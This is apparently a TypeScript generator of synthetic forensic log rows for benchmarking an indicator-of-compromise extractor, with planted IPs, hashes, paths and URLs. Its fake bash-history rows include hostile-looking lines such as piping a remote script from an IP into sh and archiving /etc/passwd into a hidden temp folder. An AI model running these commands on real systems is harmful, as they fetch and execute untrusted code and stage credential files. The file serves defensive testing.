/**
 * The IOC bench's text: result rows shaped like the Velociraptor artifacts the extractor reads (columns from
 * dfir/analysis/columns/windows.ts and posix.ts: Windows.System.Pslist, Windows.Network.Netstat,
 * Windows.EventLogs.EvtxHunter with Security 4624 and Sysmon 1/3 event data, Windows.Sys.StartupItems,
 * Windows.Applications.Chrome.History, Windows.System.DNSCache, Windows.Forensics.Prefetch, Linux.Sys.BashHistory),
 * plus a few analyst notes with defanged indicators. Each row becomes the text IocAggregator.addRow scans (its
 * string columns joined by newlines; numeric columns are not scanned). Values come from a seeded generator and pools
 * sized like a fleet (hundreds of hosts and binaries, thousands of peers and sites), so no two rows repeat.
 *
 * Every indicator a row holds is planted through `plant`, which records its expected (type, value) and count: the
 * bench checks the extractor's output against that record, so the figure is only printed for a correct extraction.
 * Near-misses sit beside them on purpose (versions, Prefetch names, 0.0.0.0, dotted identifiers, .NET type names).
 */
import type { IocType } from "../dfir/analysis/iocs/patterns.js";

export interface Planted {
  type: IocType;
  /** The value as the extractor normalises it (the first spelling seen, for Windows paths). */
  value: string;
  count: number;
}

/** mulberry32: small, fast and deterministic. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export class BenchCorpus {
  readonly planted = new Map<string, Planted>();
  // A URL's host counts as a domain once per scanned text, and not at all when the text also names it bare
  // (extract.ts), so those are planted when a piece is complete.
  private readonly pieceUrlHosts = new Set<string>();
  private readonly pieceDomains = new Set<string>();
  private readonly r: () => number;
  private readonly hex: (n: number) => string;
  private readonly pools: ReturnType<BenchCorpus["makePools"]>;

  constructor(seed = 17) {
    this.r = rng(seed);
    this.hex = (n) => {
      let s = "";
      while (s.length < n) s += Math.floor(this.r() * 0x100000000).toString(16).padStart(8, "0");
      return s.slice(0, n);
    };
    this.pools = this.makePools();
  }

  private int(n: number): number {
    return Math.floor(this.r() * n);
  }

  private pick<T>(a: readonly T[]): T {
    return a[this.int(a.length)]!;
  }

  /** Records an indicator the text holds and returns it as written. */
  private plant(type: IocType, written: string, value = written): string {
    if (type === "domain") this.pieceDomains.add(value);
    const key = `${type}\u0000${type === "windows_path" ? value.toLowerCase() : value}`;
    const p = this.planted.get(key);
    if (p) p.count++;
    else this.planted.set(key, { type, value, count: 1 });
    return written;
  }

  private publicIp(): string {
    // First octets outside private, loopback, link-local, multicast, CGNAT and documentation blocks.
    const first = this.pick([23, 31, 45, 52, 64, 77, 85, 91, 104, 142, 151, 172, 185, 195, 203, 212]);
    const second = first === 172 ? 217 : first === 203 ? 0 : this.int(256);
    return `${first}.${second}.${this.int(256)}.${1 + this.int(254)}`;
  }

  private makePools() {
    const words = ["update", "cdn", "static", "api", "login", "files", "assets", "sync", "media", "track", "edge", "mail", "portal", "data", "img", "secure"];
    const tlds = ["com", "net", "org", "io", "biz", "ru", "info", "xyz", "top", "cloud"];
    const sites = Array.from({ length: 3000 }, (_, i) => `${this.pick(words)}${i}.${this.pick(words)}-${this.hex(4)}.${this.pick(tlds)}`);
    const hosts = Array.from({ length: 300 }, (_, i) => `ws-${String(i).padStart(4, "0")}.corp-${this.hex(3)}.com`);
    const users = Array.from({ length: 400 }, (_, i) => ({ name: `${this.pick(["bob", "alice", "svc", "adm", "jdoe", "mkt"])}${i}`, sid: `S-1-5-21-${1000000 + this.int(9000000)}-${1000000 + this.int(9000000)}-${1000 + this.int(9000)}-${1001 + i}` }));
    const dirs = ["C:\\Windows\\System32", "C:\\Windows\\SysWOW64", "C:\\Program Files\\Common Files\\Vendor", "C:\\Program Files (x86)\\App", "C:\\ProgramData\\Agent"];
    const binaries = Array.from({ length: 600 }, (_, i) => {
      const name = `${this.pick(["svc", "host", "agent", "helper", "update", "sync", "shell", "broker"])}${i}.exe`;
      const dir = i % 40 === 0 ? `C:\\Users\\${this.pick(users).name}\\AppData\\Local\\Temp` : this.pick(dirs);
      // The Prefetch name's 8 hex digits hash the executable's path, so they are fixed per binary.
      return { name, path: `${dir}\\${name}`, md5: this.hex(32), sha1: this.hex(40), sha256: this.hex(64), pathHash: this.hex(8).toUpperCase() };
    });
    const peers = Array.from({ length: 8000 }, () => this.publicIp());
    // Canonical (RFC 5952) spellings, as the extractor reports IPv6 addresses.
    const peers6 = Array.from({ length: 500 }, () => `2a0${this.int(10)}:${this.hex(4).replace(/^0+/, "") || "0"}:${this.hex(3).replace(/^0+/, "") || "1"}::${this.hex(4).replace(/^0+/, "") || "2"}`);
    // A host has one or two addresses of its own.
    const locals = Array.from({ length: 600 }, () => `10.${this.int(256)}.${this.int(256)}.${1 + this.int(254)}`);
    return { sites, hosts, users, binaries, peers, peers6, locals };
  }

  private time(): string {
    return `2026-11-${String(1 + this.int(28)).padStart(2, "0")}T${String(this.int(24)).padStart(2, "0")}:${String(this.int(60)).padStart(2, "0")}:${String(this.int(60)).padStart(2, "0")}.${String(this.int(1e7)).padStart(7, "0")}Z`;
  }

  /** One row's scanned text (its string columns, newline-joined). */
  row(): string {
    const k = this.int(100);
    if (k < 24) return this.pslist();
    if (k < 44) return this.netstat();
    if (k < 64) return this.evtx();
    if (k < 72) return this.startup();
    if (k < 82) return this.chrome();
    if (k < 89) return this.dns();
    if (k < 94) return this.prefetch();
    if (k < 99) return this.bash();
    return this.note();
  }

  /** Rows newline-joined into pieces of about `size` characters (the CLI groups its input the same way). */
  chunk(size: number): string {
    const rows: string[] = [];
    let n = 0;
    while (n < size) {
      const r = this.row();
      rows.push(r);
      n += r.length + 1;
    }
    for (const h of this.pieceUrlHosts) if (!this.pieceDomains.has(h)) this.plant("domain", h);
    this.pieceUrlHosts.clear();
    this.pieceDomains.clear();
    return rows.join("\n");
  }

  private pslist(): string {
    const b = this.pick(this.pools.binaries);
    const user = this.int(3) === 0 ? "NT AUTHORITY\\SYSTEM" : `CORP\\${this.pick(this.pools.users).name}`;
    const args = this.pick([" -k netsvcs -p -s Schedule", " --type=renderer --lang=en-US --field-trial-handle=1912,i,2", " /service", "", ` -config "C:\\ProgramData\\Agent\\agent.yaml" -v`]);
    const cmd = args.includes("agent.yaml") ? `"${this.plant("windows_path", b.path)}"${args.replace("C:\\ProgramData\\Agent\\agent.yaml", this.plant("windows_path", "C:\\ProgramData\\Agent\\agent.yaml"))}` : `${this.plant("windows_path", b.path)}${args}`;
    const system = user.startsWith("NT AUTHORITY");
    // TokenInfo and Authenticode are nested objects in the row; rowStrings scans their strings too.
    const token = [system ? "S-1-5-18" : "S-1-5-21-1004336348-1177238915-682003330-1001", user, this.plant("windows_path", system ? "C:\\Windows\\system32\\config\\systemprofile" : "C:\\Users\\Default"), "S-1-5-32-544", "S-1-5-18", user];
    this.pieceUrlHosts.add("www.microsoft.com");
    const authenticode = ["Trusted", "C=US, S=Washington, L=Redmond, O=Microsoft Corporation, CN=Microsoft Windows", "C=US, S=Washington, L=Redmond, O=Microsoft Corporation, CN=Microsoft Windows Production PCA 2011", `33${this.hex(36)}`, "Microsoft Windows", this.plant("url", "http://www.microsoft.com/windows")];
    return [b.name, cmd, this.plant("windows_path", b.path), this.plant("md5", b.md5), this.plant("sha1", b.sha1), this.plant("sha256", b.sha256), user, this.time(), ...token, ...authenticode].join("\n");
  }

  private netstat(): string {
    if (this.int(10) === 0) {
      const peer = this.pick(this.pools.peers6);
      return [this.pick(this.pools.binaries).name, "IPv6", "TCP", "ESTAB", this.plant("ipv6", "fe80::1c2d:3e4f:5a6b:7c8d"), this.plant("ipv6", peer), this.time()].join("\n");
    }
    const listening = this.int(5) === 0;
    const local = this.pick(this.pools.locals);
    const remote = listening ? "0.0.0.0" : this.pick(this.pools.peers);
    return [this.pick(this.pools.binaries).name, "IPv4", "TCP", listening ? "LISTEN" : "ESTAB", this.plant("ipv4", local), listening ? remote : this.plant("ipv4", remote), this.time()].join("\n");
  }

  private evtx(): string {
    const host = this.plant("domain", this.pick(this.pools.hosts));
    const t = this.time();
    const kind = this.int(3);
    const guid = () => `{${this.hex(8)}-${this.hex(4)}-${this.hex(4)}-${this.hex(4)}-${this.hex(12)}}`;
    if (kind === 0) {
      // Security 4624 EventData (the logon's fields, by name): SubjectUserSid … ElevatedToken.
      const user = this.pick(this.pools.users);
      const ip = this.pick(this.pools.peers);
      const eventData = ["S-1-0-0", "-", "-", "0x0", user.sid, user.name, "CORP", `0x${this.hex(6)}`, "NtLmSsp ", "NTLM", `WS-${this.hex(4).toUpperCase()}`, "{00000000-0000-0000-0000-000000000000}", "-", "NTLM V2", "0x0", "-", this.plant("ipv4", ip), String(49152 + this.int(16000)), "%%1833", "-", "-", "-", "%%1843", "0x0", "%%1842"];
      return [t, host, "Security", "Microsoft-Windows-Security-Auditing", user.sid, user.name, ...eventData, this.plant("windows_path", "C:\\Windows\\System32\\winevt\\Logs\\Security.evtx")].join("\n");
    }
    const sysmon = this.plant("windows_path", "C:\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-Sysmon%4Operational.evtx");
    const b = this.pick(this.pools.binaries);
    if (kind === 1) {
      const parent = this.pick(this.pools.binaries);
      const hashes = `MD5=${this.plant("md5", b.md5.toUpperCase(), b.md5)},SHA256=${this.plant("sha256", b.sha256.toUpperCase(), b.sha256)},IMPHASH=${this.hex(6)}`;
      // Sysmon 1 EventData: RuleName, UtcTime, ProcessGuid, Image, FileVersion, Description, Product, Company,
      // OriginalFileName, CommandLine, CurrentDirectory, User, LogonGuid, LogonId, IntegrityLevel, Hashes, Parent*.
      const eventData = ["technique_id=T1059,technique_name=Command and Scripting Interpreter", t.replace("T", " ").slice(0, 23), guid(), this.plant("windows_path", b.path), "10.0.19041.3636 (WinBuild.160101.0800)", "Host Process for Windows Services", "Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation", b.name, `${this.plant("windows_path", b.path)} /quiet`, this.plant("windows_path", "C:\\Windows\\system32\\"), "NT AUTHORITY\\SYSTEM", guid(), "0x3e7", "System", hashes, guid(), this.plant("windows_path", parent.path), this.plant("windows_path", parent.path), "NT AUTHORITY\\SYSTEM"];
      return [t, host, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", ...eventData, "Process Create: rule Generic.Client.Info matched System.Net.Http", sysmon].join("\n");
    }
    const site = this.pick(this.pools.sites);
    // Sysmon 3 EventData: RuleName, UtcTime, ProcessGuid, Image, User, Protocol, Initiated, SourceIsIpv6, SourceIp,
    // SourceHostname, SourcePortName, DestinationIsIpv6, DestinationIp, DestinationHostname, DestinationPortName.
    const eventData = ["-", t.replace("T", " ").slice(0, 23), guid(), this.plant("windows_path", b.path), "NT AUTHORITY\\SYSTEM", "tcp", "true", "false", this.plant("ipv4", this.pick(this.pools.locals)), this.plant("domain", host), "-", "false", this.plant("ipv4", this.pick(this.pools.peers)), this.plant("domain", site), "https"];
    return [t, host, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", ...eventData, "Network connection detected", sysmon].join("\n");
  }

  private startup(): string {
    const user = this.pick(this.pools.users);
    const name = this.pick(["OneDrive", "Teams", "Updater", "SecurityHealth"]);
    const key = `HKEY_USERS\\${user.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\${name}`;
    const exe = `C:\\Users\\${user.name}\\AppData\\Local\\${name}\\${name}.exe`;
    return [name, this.plant("registry_key", key), `"${this.plant("windows_path", exe)}" /background`, "enabled"].join("\n");
  }

  private chrome(): string {
    const site = this.pick(this.pools.sites);
    const url = `https://${site}/${this.pick(["index.html", "search", "download/setup", "a/b/c"])}?q=${this.int(4)}&utm_source=mail`;
    this.pieceUrlHosts.add(site);
    return [this.plant("url", url), `${this.pick(["Home", "Search", "Download"])} - ${site.split(".")[0]}`, this.time(), this.plant("windows_path", `C:\\Users\\${this.pick(this.pools.users).name}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\History`)].join("\n");
  }

  private dns(): string {
    const site = this.pick(this.pools.sites);
    return [this.plant("domain", site), this.plant("ipv4", this.pick(this.pools.peers)), "A", "Success", "Answer"].join("\n");
  }

  private prefetch(): string {
    const b = this.pick(this.pools.binaries);
    const upper = b.name.toUpperCase();
    const pf = `${upper}-${b.pathHash}.pf`;
    const rel = b.path.slice(3);
    return [upper, `0X${this.hex(8).toUpperCase()}`, "Win10 (30)", this.plant("windows_path", `\\Device\\HarddiskVolume3\\${rel}`), this.plant("windows_path", b.path), this.plant("windows_path", `C:\\Windows\\Prefetch\\${pf}`), pf, this.time(), `\\VOLUME{01d8c2a4b7e3f012-5e6f7a8b}\\${rel.toUpperCase()}`].join("\n");
  }

  private bash(): string {
    const ip = this.pick(this.pools.peers);
    const user = this.pick(this.pools.users).name;
    const n = this.int(6);
    if (n === 0) return `curl -s ${this.plant("url", `http://${this.plant("ipv4", ip)}/k.sh`)} | sh`;
    if (n === 1) return `cd ${this.plant("posix_path", `/home/${user}/src`)} && make -j4 && ./build/app --version 2.4.1.7`;
    if (n === 2) return `ssh ${user}@${this.plant("ipv4", ip)} -p 2222`;
    if (n === 3) return `tar czf ${this.plant("posix_path", `/tmp/.cache-${this.hex(2)}/b.tgz`)} ${this.plant("posix_path", "/etc/passwd")}`;
    if (n === 4) return `ls -la ${this.plant("posix_path", "/var/log/")} | grep 0.0.0.0`;
    return `python3 -c 'import os; os.system("id")' # ${this.time()}`;
  }

  private note(): string {
    const site = this.pick(this.pools.sites);
    const ip = this.pick(this.pools.peers);
    this.pieceUrlHosts.add(site);
    this.plant("url", `https://${site}/gate.php`);
    this.plant("ipv4", ip);
    this.plant("cve", "CVE-2021-44228");
    return `Analyst note: beacon to hxxps://${site.replace(/\./g, "[.]")}/gate.php from ${ip.replace(/\./g, "[.]")} (CVE-2021-44228), see ticket.`;
  }
}
